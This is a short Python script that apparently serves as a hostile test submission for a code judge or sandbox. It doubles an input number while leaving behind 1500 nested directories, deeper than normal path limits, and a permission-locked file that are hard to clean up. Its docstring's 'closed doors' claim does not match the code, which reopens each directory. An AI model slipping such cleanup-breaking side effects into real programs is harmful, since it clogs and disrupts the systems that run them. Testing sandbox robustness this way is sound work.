"""Leaves a path that is longer than any program can name, with closed doors on the way."""

import os

number = int(input())
for depth in range(1500):
    os.mkdir("d" * 30)
    os.chdir("d" * 30)
    with open("file", "w") as file:
        file.write("x")
    if depth % 100 == 0:
        os.chmod(".", 0o500 if depth % 200 else 0o700)
        if depth % 200:
            os.chmod(".", 0o700)
os.chmod("file", 0)
print(number * 2)
